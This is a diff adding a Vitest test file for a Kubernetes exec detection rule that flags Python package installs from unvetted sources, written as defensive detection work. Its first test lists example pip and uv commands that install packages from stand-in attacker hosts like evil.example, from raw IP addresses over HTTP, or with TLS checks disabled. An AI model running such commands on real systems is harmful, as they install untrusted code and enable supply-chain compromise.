@@ -1,0 +1,42 @@
+/**
+ * Python packages installed from an unvetted source through kubectl exec (MLS-POISON-009), through
+ * the shipped rule set and the real engine: an index over plain HTTP or at an IP address, TLS
+ * checks turned off for a host, an archive fetched by URL; and the installs beside them that a
+ * training pod runs every day (requirements files, vendor indexes, an internal mirror by name, a
+ * Git checkout), which it leaves.
+ */
+import { describe, expect, it } from 'vitest';
+import { execRuleIds, SA } from './exec-events.test-support.js';
+
+const sh = (line: string): string[] => ['sh', '-c', line];
+
+describe('MLS-POISON-009: exec installs a Python package from an unvetted source', () => {
+  it('escalates an index over HTTP or at an IP address, a trusted host, an archive by URL, for pip, python -m pip and uv', () => {
+    for (const line of [
+      'pip install --index-url http://203.0.113.5/simple torch',
+      'pip install -i http://pypi.evil.example/simple torch',
+      'pip install https://evil.example/pkgs/transformers-4.99-py3-none-any.whl',
+      'pip install --trusted-host 203.0.113.5 -i http://203.0.113.5:8080/simple numpy',
+      'pip3 install --extra-index-url=https://203.0.113.5/simple internal-utils',
+      'python3 -m pip install --index-url http://203.0.113.5/simple torch',
+      'uv pip install -i http://203.0.113.5/simple torch',
+      'pip install -f http://203.0.113.5/wheels/ flash-attn',
+    ]) {
+      expect(execRuleIds(sh(line)), line).toContain('MLS-POISON-009');
+      expect(execRuleIds(sh(line), SA), line).toContain('MLS-POISON-009');
+    }
+  });
+
+  it('leaves requirements files, vendor indexes, an internal mirror over HTTPS by name, Git installs and pip\'s other commands', () => {
+    for (const line of [
+      'pip install -r requirements.txt',
+      'pip install --index-url https://download.pytorch.org/whl/cu121 torch',
+      'pip install -U transformers==4.44.0',
+      'pip install -e .',
+      'pip install --extra-index-url https://pypi.corp.example/simple internal-utils',
+      'pip install git+https://github.com/huggingface/transformers',
+      'pip config list',
+      'python3 train.py --data-url http://10.0.0.5/shards',
+    ]) expect(execRuleIds(sh(line)), line).not.toContain('MLS-POISON-009');
+  });
+});
